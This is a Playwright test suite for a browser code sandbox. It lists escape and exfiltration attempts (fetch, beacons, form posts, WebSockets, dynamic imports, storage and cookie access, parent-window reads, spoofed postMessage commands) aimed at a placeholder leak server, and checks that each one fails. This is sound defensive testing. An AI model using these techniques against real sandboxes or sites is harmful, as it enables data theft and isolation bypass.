/**
 * What the policies of the sandbox forbid, attempted one by one, with the means that a
 * program does not even have: in a worker that nobody has locked down, in the frame that
 * holds the workers, and in the sandbox page itself.
 */
import type { Frame, Page } from '@playwright/test'
import { expect, test } from './hostile/fixture.ts'
import { addSandbox } from './hostile/host-page.ts'
import { serveSite } from './hostile/site-server.ts'

const isolates = async (page: Page): Promise<Frame> => {
  const sandbox = page.frames().find((frame) => frame.url().endsWith('/sandbox/'))!
  await expect.poll(() => sandbox.childFrames().length).toBe(1)
  return sandbox.childFrames()[0]
}

/** Runs an expression in a worker like a program's, but with all that a worker has; says what came of it. */
const attempt = (frame: Frame, expression: string): Promise<string> =>
  frame.evaluate(
    (code) =>
      new Promise<string>((resolve) => {
        const source = `(async () => (${code}))().then((value) => postMessage('GOT ' + value), (error) => postMessage(error.name))`
        const worker = new Worker(`data:text/javascript,${encodeURIComponent(source)}`)
        worker.onmessage = ({ data }) => resolve(data as string)
        worker.onerror = () => resolve('the worker broke')
      }),
    expression,
  )

const opened = (what: string) =>
  `new Promise((resolve, reject) => { const it = ${what}; it.onopen = () => resolve('open'); it.onerror = () => reject(new Error('closed')) })`

const ATTEMPTS: [name: string, expression: string, refusal: RegExp][] = [
  ['fetch', `fetch('LEAK/fetch', { mode: 'no-cors' })`, /^TypeError$/],
  ['fetch from the site', `fetch('SITE/fetch', { mode: 'no-cors' })`, /^TypeError$/],
  [
    'fetch, kept alive',
    `fetch('LEAK/keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })`,
    /^TypeError$/,
  ],
  [
    'XMLHttpRequest',
    `(() => { const x = new XMLHttpRequest(); x.open('GET', 'LEAK/xhr', false); x.send(); return x.status })()`,
    /^NetworkError$/,
  ],
  ['importScripts', `importScripts('LEAK/scripts')`, /^NetworkError$/],
  ['importScripts from the site', `importScripts('SITE/favicon.svg')`, /^NetworkError$/],
  ['import()', `import('LEAK/import')`, /^TypeError$/],
  ['import() from the site', `import('SITE/import')`, /^TypeError$/],
  ['import() of data:', `import('data:text/javascript,1')`, /^TypeError$/],
  [
    'WebSocket',
    opened(`new WebSocket('LEAK/socket'.replace('http', 'ws'))`),
    /^(Error|SecurityError)$/,
  ],
  ['EventSource', opened(`new EventSource('LEAK/events')`), /^(Error|SecurityError)$/],
  ['WebTransport', `new WebTransport('https://localhost:1/').ready`, /Error$/],
  [
    'a worker of a blob:',
    `new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = resolve; w.onerror = () => reject(new Error()) })`,
    /Error$/,
  ],
  [
    'IndexedDB',
    `new Promise((resolve, reject) => { const r = indexedDB.open('a'); r.onsuccess = resolve; r.onerror = () => reject(r.error) })`,
    /Error$/,
  ],
  ['CacheStorage', `caches.open('a')`, /^(SecurityError|ReferenceError)$/],
  ['StorageManager', `navigator.storage.getDirectory()`, /^(SecurityError|TypeError)$/],
  ['cookieStore', `cookieStore.set('a', '1')`, /Error$/],
  ['localStorage', `localStorage.setItem('a', '1')`, /^ReferenceError$/],
  ['a lock', `navigator.locks.request('a', () => 1)`, /^(SecurityError|TypeError)$/],
  ['parent', `parent.document`, /^ReferenceError$/],
]

for (const [name, expression, refusal] of ATTEMPTS) {
  test(`a bare worker: ${name}`, async ({ sandbox: { page, site, leak } }) => {
    const visits = site.requests.length
    const code = expression.replaceAll('LEAK', leak.origin).replaceAll('SITE', site.origin)
    expect(await attempt(await isolates(page), code)).toMatch(refusal)
    await page.waitForTimeout(50)
    expect(leak.requests).toEqual([])
    expect(site.requests.slice(visits)).toEqual([])
  })
}

test('a worker’s origin is opaque', async ({ sandbox: { page } }) => {
  expect(await attempt(await isolates(page), 'self.origin + " " + self.isSecureContext')).toMatch(
    /^GOT null/,
  )
})

/** In a frame: its result, or the name of what it throws. */
const tried = (frame: Frame, expression: string): Promise<string> =>
  frame.evaluate(async (code) => {
    try {
      return `GOT ${String(await (0, eval)(code))}`
    } catch (error) {
      return (error as Error).name
    }
  }, expression)

const loaded = (element: string, address: string) =>
  `new Promise((resolve, reject) => { const it = document.createElement('${element}'); it.onload = () => resolve('loaded'); it.onerror = () => reject(new Error()); it.src = it.href = '${address}'; it.rel = 'stylesheet'; document.body.append(it); setTimeout(() => reject(new Error()), 300) })`

const IN_BOTH: [name: string, expression: string][] = [
  ['fetch', `fetch('LEAK/fetch', { mode: 'no-cors' })`],
  ['fetch from the site', `fetch('SITE/fetch')`],
  ['an image', loaded('img', 'LEAK/image')],
  ['a script', loaded('script', 'LEAK/script')],
  ['a style sheet', loaded('link', 'LEAK/style')],
  [
    'a script in the page',
    `new Promise((resolve, reject) => { globalThis.ran = () => resolve('ran'); const it = document.createElement('script'); it.textContent = 'ran()'; document.body.append(it); setTimeout(() => reject(new Error()), 100) })`,
  ],
  [
    'sendBeacon',
    `new Promise((resolve, reject) => { navigator.sendBeacon('LEAK/beacon'); setTimeout(() => reject(new Error()), 200) })`,
  ],
  [
    'a form',
    `new Promise((resolve, reject) => { const it = document.createElement('form'); it.action = 'LEAK/form'; it.method = 'post'; document.body.append(it); it.submit(); setTimeout(() => reject(new Error()), 200) })`,
  ],
  [
    'another base',
    `(() => { const it = document.createElement('base'); it.href = 'LEAK/'; document.head.append(it); if (document.baseURI.startsWith('LEAK')) return 'moved'; throw new Error() })()`,
  ],
]

for (const [name, expression] of IN_BOTH) {
  test(`the sandbox page and its frame: ${name}`, async ({ sandbox: { page, site, leak } }) => {
    const visits = site.requests.length
    const code = expression.replaceAll('LEAK', leak.origin).replaceAll('SITE', site.origin)
    const frame = await isolates(page)
    for (const each of [frame.parentFrame()!, frame])
      expect(await tried(each, code)).toMatch(/Error$/)
    expect(leak.requests).toEqual([])
    expect(site.requests.slice(visits)).toEqual([])
  })
}

for (const expression of [
  `parent.document`,
  `parent.runs`,
  `top.document`,
  `localStorage.length`,
  `document.cookie`,
  `indexedDB.open('a') && Promise.reject(new Error())`,
  `(() => { const it = open('LEAK/popup'); if (it) return it; throw new Error() })()`,
  `top.location.href`,
]) {
  test(`the frame alone: ${expression}`, async ({ sandbox: { page, leak } }) => {
    const code = expression.replaceAll('LEAK', leak.origin)
    expect(await tried(await isolates(page), code)).toMatch(/Error$/)
    expect(leak.requests).toEqual([])
  })
}

test('the sandbox answers no page of another origin', async ({ page }) => {
  const site = await serveSite()
  // The same server by another name is another origin.
  await page.goto(site.origin.replace('localhost', '127.0.0.1') + '/host/')
  const heard = await page.evaluate(async (address) => {
    const messages: unknown[] = []
    window.addEventListener('message', ({ data }) => messages.push(data))
    const frame = document.createElement('iframe')
    frame.src = address
    document.body.append(frame)
    await new Promise((resolve) => frame.addEventListener('load', resolve))
    const modules = {
      '/a.ts': { code: 'console.log(1)' },
      '/package.json': { code: '{"main":"/a.ts"}' },
    }
    for (const origin of ['*', new URL(address).origin]) {
      frame.contentWindow!.postMessage({ type: 'register-frame', id: 1 }, origin)
      frame.contentWindow!.postMessage({ type: 'compile', modules }, origin)
    }
    await new Promise((resolve) => setTimeout(resolve, 1_000))
    return messages
  }, `${site.origin}/sandbox/`)
  expect(heard).toEqual([])
  site.close()
})

test('the sandbox hears only the page that holds it', async ({ page }) => {
  const site = await serveSite()
  await page.goto(`${site.origin}/host/`)
  await addSandbox(page)
  const heard = await page.evaluate(async () => {
    const messages: string[] = []
    window.addEventListener('message', ({ data }) => messages.push(data.type as string))
    // A window of the same origin that is not its parent.
    const stranger = document.createElement('iframe')
    document.body.append(stranger)
    const script = stranger.contentDocument!.createElement('script')
    script.textContent = `parent.frames[0].postMessage({ type: 'compile', modules: { '/a.ts': { code: '' }, '/package.json': { code: '{"main":"/a.ts"}' } } }, '*')`
    stranger.contentDocument!.body.append(script)
    await new Promise((resolve) => setTimeout(resolve, 500))
    return messages
  })
  expect(heard).toEqual([])
  site.close()
})

test.describe('what the page may say', () => {
  test('nonsense is not heard', async ({ sandbox: { page } }) => {
    const { outcome } = await page.evaluate(async () => {
      const frame = document.querySelector('iframe')!
      for (const message of [
        null,
        1,
        'compile',
        [],
        {},
        { type: 'compile' },
        { type: 'compile', modules: 3 },
        { type: 'compile', modules: { '/a.ts': null } },
      ]) {
        frame.contentWindow!.postMessage(message, location.origin)
      }
      return window.runProgram({ 'a.ts': '1' })
    })
    expect(outcome).toBe('done')
  })

  test('stop ends a program at once', async ({ sandbox: { page } }) => {
    const heard = await page.evaluate(() => {
      setTimeout(() => window.stopProgram(), 300)
      return window.runProgram({ 'a.ts': 'console.log(1)\nwhile (true) {}' })
    })
    expect(heard).toMatchObject({ outcome: 'stopped', report: [{ type: 'log', text: '1' }] })
  })

  test('an edit ends the program before it, and is the one that runs', async ({
    sandbox: { page },
  }) => {
    const heard = await page.evaluate(async () => {
      void window.runProgram({ 'a.ts': 'while (true) {}' })
      await new Promise((resolve) => setTimeout(resolve, 100))
      void window.runProgram({ 'a.ts': 'while (true) { }' })
      return window.runProgram({ 'a.ts': 'console.log("last")' })
    })
    expect(heard).toMatchObject({ outcome: 'done', report: [{ text: 'last' }] })
  })
})
